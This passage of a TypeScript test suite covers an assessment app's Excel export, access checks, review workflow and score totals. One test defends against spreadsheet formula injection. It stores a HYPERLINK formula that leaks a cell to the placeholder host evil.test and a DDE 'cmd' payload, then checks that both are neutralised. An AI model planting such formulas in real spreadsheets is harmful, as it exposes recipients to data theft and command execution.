    await save(r, 0, [{ _id: qid(r, 0, 0), assessStatus: 'ACCEPTED' }, { _id: qid(r, 0, 1), assessStatus: 'ACCEPTED', remarks: 'Fine' }], auditor1, 16);
    const res = await t.app.inject({ method: 'POST', url: `${R}/exportResponseToExcel`, payload: { responseId: r._id }, headers: { cookie: admin } });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toContain('attachment; filename="Export_Me_Audit.xlsx"');

    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const names = wb.worksheets.map((w) => w.name);
    expect(names).toEqual(['Summary', long[0]?.slice(0, 31), `${long[1]?.slice(0, 27)} (2)`]);
    const rows = (sheet: ExcelJS.Worksheet) => sheet.getSheetValues().slice(1).map((v) => (Array.isArray(v) ? v.slice(1) : []));
    const summary = rows(wb.worksheets[0] as ExcelJS.Worksheet);
    expect(summary).toContainEqual(['Assessment', 'Export  Me Audit']);
    expect(summary).toContainEqual(['Contractor', 'North Sea Scaffolding']);
    expect(summary).toContainEqual(['Score', '16 / 30']);
    const first = rows(wb.worksheets[1] as ExcelJS.Worksheet);
    expect(first[0]).toEqual(['Sr.No', 'Question', 'Answer', 'Attachments', 'Status', 'Remarks']);
    expect(first[1]?.slice(0, 5)).toEqual([1, section(r, 0).questions[0]?.question.questText, 'Yes', '', 'ACCEPTED']);
    expect(first[2]?.[5]).toBe('Fine');
    expect(first.at(-1)).toEqual(['Score', '16 / 20']);
    expect(rows(wb.worksheets[2] as ExcelJS.Worksheet).at(-1)).toEqual(['Score', '- / 10']);
  });

  it('writes what users typed as text, never as a formula: = + - @ tab and CR get an apostrophe (#17)', async () => {
    const a = await createAssessment('Formula Audit');
    const started = await t.post<ResponseReply>(`${R}/createResponseForContractor`, { assessmentId: a._id, contractor: { contractorId: ids.c1 } }, c1);
    expect(started.status, started.body.message).toBe(200);
    const r = started.body.data;
    const link = '=HYPERLINK("http://evil.test/?leak="&A1,"Click for details")';
    const saved = await save(r, 1, [{ _id: qid(r, 1, 0), answer: { text: link } }, { _id: qid(r, 1, 1), answer: { text: '@SUM(1+1)' } }], c1);
    expect(saved.status, saved.body.message).toBe(200);
    expect((await save(r, 0, [{ _id: qid(r, 0, 0), answer: { yesNo: 'YES' } }, { _id: qid(r, 0, 1), answer: { yesNo: 'NO' } }], c1)).status).toBe(200);
    const sent = await status(r, { status: 'SUBMITTED' }, c1);
    expect(sent.status, sent.body.message).toBe(200);
    const judged = await save(r, 1, [{ _id: qid(r, 1, 0), assessStatus: 'REJECTED', remarks: '-2+3+cmd|\' /C calc\'!A0' }], auditor1);
    expect(judged.status, judged.body.message).toBe(200);

    const res = await t.app.inject({ method: 'POST', url: `${R}/exportResponseToExcel`, payload: { responseId: r._id }, headers: { cookie: admin } });
    expect(res.statusCode, res.body).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const sheet = wb.worksheets[2] as ExcelJS.Worksheet;
    const answer = sheet.getRow(2).getCell(3);
    expect(answer.type).toBe(ExcelJS.ValueType.String);
    expect(answer.value).toBe(`'${link}`);
    expect(sheet.getRow(3).getCell(3).value).toBe("'@SUM(1+1)");
    expect(sheet.getRow(2).getCell(6).value).toBe("'-2+3+cmd|' /C calc'!A0");
    // Our own cells are left as they are.
    expect(sheet.getRow(4).values).toEqual([undefined, 'Score', '- / 10']);
  });

  it('is for organisation users with canExportAssessmentData only (403), of their organisation (404)', async () => {
    const done = (await seeded())['Environmental Compliance Review / North Sea Scaffolding'];
    await expectRefused(`${R}/exportResponseToExcel`, { responseId: done?._id }, [auditor1, c1, employee]);
    expect((await t.post(`${R}/exportResponseToExcel`, {}, admin)).body.message).toBe('responseId is required');
    expect((await t.post(`${R}/exportResponseToExcel`, { responseId: done?._id }, otherAdmin)).status).toBe(404);
    expect((await t.post(`${R}/exportResponseToExcel`, { responseId: 'nothing' }, admin)).status).toBe(404);
    await t.db.update(users).set({ canExportAssessmentData: false }).where(eq(users.email, 'admin@demo.test'));
    try {
      const res = await t.post(`${R}/exportResponseToExcel`, { responseId: done?._id }, admin);
      expect(res.status).toBe(403);
      expect(res.body.message).toBe(m.noExportPermission);
    } finally {
      await t.db.update(users).set({ canExportAssessmentData: true }).where(eq(users.email, 'admin@demo.test'));
    }
  });
});

describe('the whole loop', () => {
  it('submit → reject and reassess with a later due date → fix and resubmit → accept, score, complete → scores', async () => {
    await t.services.rankings.rebuildDue();
    const before = await t.post<ContractorTotalScore[]>(`${R}/getTotalScoresOfContrsInCompany`, { companyId: demoOrg }, admin);
    const c2Before = before.body.data.find((x) => x._id.contractorId === ids.c2);
    const esgoBefore = (await t.post<EsgoReply>(`${R}/getESGOForAllContractors`, { companyId: demoOrg, contractorId: ids.c2 }, admin)).body.data;

    const r = await submitted('Whole Loop Audit', c2, ids.c2);
    // The auditor's dashboard lists it among the SUBMITTED ones.
    const dashboard = await t.post<ResponsePage>(`${R}/getResponsesByCompanyIds`, { companyIds: [demoOrg], status: 'SUBMITTED' }, auditor1);
    expect(dashboard.body.data.items[0]?._id).toBe(r._id);

    expect((await judge(r, 0, ['ACCEPTED', 'ACCEPTED'], 16)).status).toBe(200);
    const rej = await save(r, 1, [{ _id: qid(r, 1, 0), assessStatus: 'ACCEPTED' }, { _id: qid(r, 1, 1), assessStatus: 'REJECTED', remarks: 'Name the person' }], auditor1);
    expect(rej.status).toBe(200);
    const later = inDays(25);
    const reassess = await status(r, { status: 'REASSESSMENT', extendedDueDate: later });
    expect(reassess.status, reassess.body.message).toBe(200);
    await expectScoresKept();

    // The contractor sees the red mark and the new due date, fixes the answer (REJECTED until it
    // submits, DECISIONS.md States), resubmits: then the answer is NONE, to be judged again.
    const seen = await getResponse(r._id, c2);
    expect(seen).toMatchObject({ status: 'REASSESSMENT', effectiveDueDate: later });
    expect(section(seen, 1).hasRejected).toBe(true);
    expect(section(seen, 1).questions[1]?.remarks).toBe('Name the person');
    const fixed = await save(r, 1, [{ _id: qid(r, 1, 1), answer: { text: 'Alex Morgan, HSE manager' } }], c2);
    expect(fixed.status, fixed.body.message).toBe(200);
    expect(section(fixed.body.data, 1).questions[1]?.assessStatus).toBe('REJECTED');
    const resubmit = await t.post<ResponseReply>(`${R}/changeResponseStatus`, { responseId: r._id, status: 'SUBMITTED' }, c2);
    expect(resubmit.status, resubmit.body.message).toBe(200);
    expect(section(resubmit.body.data, 1).questions[1]?.assessStatus).toBe('NONE');

    const accept = await judge(r, 1, ['ACCEPTED', 'ACCEPTED'], 7);
    expect(accept.status, accept.body.message).toBe(200);
    await expectScoresKept();
    const nudged = vi.spyOn(t.services.rankings, 'changed');
    const done = await status(r, { status: 'COMPLETED' });
    expect(done.status, done.body.message).toBe(200);
    expect(done.body.data).toMatchObject({ status: 'COMPLETED', scored: 23, total: 30 });
    // The completion asks this instance's sweep for a rebuild of the ranking (issue 63).
    expect(nudged).toHaveBeenCalledTimes(1);
    nudged.mockRestore();
    expect(done.body.data.timeline?.map((e) => [e.from, e.to, e.by.type, e.note])).toEqual([
      [null, 'PENDING', 3, null],
      ['PENDING', 'SUBMITTED', 3, null],
      ['SUBMITTED', 'REASSESSMENT', 4, m.dueDateNote(later)],
      ['REASSESSMENT', 'SUBMITTED', 3, null],
      ['SUBMITTED', 'COMPLETED', 4, null],
    ]);

    // The cached lists follow every change at once.
    const dashboardAfter = await t.post<ResponsePage>(`${R}/getResponsesByCompanyIds`, { companyIds: [demoOrg], status: 'SUBMITTED' }, auditor1);
    expect(dashboardAfter.body.data.items.map((x) => x._id)).not.toContain(r._id);
    expect(dashboardAfter.body.data.total).toBe(dashboard.body.data.total - 1);
    await expectScoresKept();
    // The kept ranking is the last rebuild's until the background job runs: a reader never rebuilds it.
    const unbuilt = await t.post<ContractorTotalScore[]>(`${R}/getTotalScoresOfContrsInCompany`, { companyId: demoOrg }, admin);
    expect(unbuilt.body.data).toEqual(before.body.data);
    expect(await t.services.rankings.rebuildDue()).toEqual([demoOrg]);
    const after = await t.post<ContractorTotalScore[]>(`${R}/getTotalScoresOfContrsInCompany`, { companyId: demoOrg }, admin);
    const c2After = after.body.data.find((x) => x._id.contractorId === ids.c2);
    expect(c2After).toMatchObject({ scored: (c2Before?.scored ?? 0) + 23, total: (c2Before?.total ?? 0) + 30 });
    const esgo = (await t.post<EsgoReply>(`${R}/getESGOForAllContractors`, { companyId: demoOrg, contractorId: ids.c2 }, admin)).body.data;
    expect(esgo.social).toMatchObject({ scored: esgoBefore.social.scored + 16, total: esgoBefore.social.total + 20 });
    expect(esgo.environment).toMatchObject({ scored: esgoBefore.environment.scored + 7, total: esgoBefore.environment.total + 10 });
  });
});

describe('contractor_scores (the totals the leaderboard reads)', () => {
  it('equals a recomputation from the responses after any write, the app’s or SQL typed by hand', async () => {
    await expectScoresKept();
    const r = await submitted('Kept Sums Audit', c1, ids.c1);
    expect((await judge(r, 0, ['ACCEPTED', 'ACCEPTED'], 12)).status).toBe(200);
    expect((await judge(r, 1, ['ACCEPTED', 'ACCEPTED'], 5)).status).toBe(200);
    await expectScoresKept();
    expect((await status(r, { status: 'COMPLETED' })).status).toBe(200);
    await expectScoresKept();
    // Changes no screen makes, but a hand or a later feature might: the marks of a COMPLETED
    // response, its status back, a move to another contractor, a delete.
    await t.db.update(responses).set({ scoredMarks: 3 }).where(eq(responses.id, r._id));
    await expectScoresKept();
    await t.db.update(responses).set({ contractorId: ids.c2 ?? '' }).where(eq(responses.id, r._id));
    await expectScoresKept();
    await t.db.update(responses).set({ status: 'SUBMITTED' }).where(eq(responses.id, r._id));
    await expectScoresKept();
    await t.db.update(responses).set({ status: 'COMPLETED' }).where(eq(responses.id, r._id));
    await expectScoresKept();
    await t.db.delete(responses).where(eq(responses.id, r._id));
    await expectScoresKept();
    // A rebuild (the bench's generator) comes to the same rows.
    await reviewRepository.rebuildContractorScores(t.db, [demoOrg]);
    await expectScoresKept();
  });
});
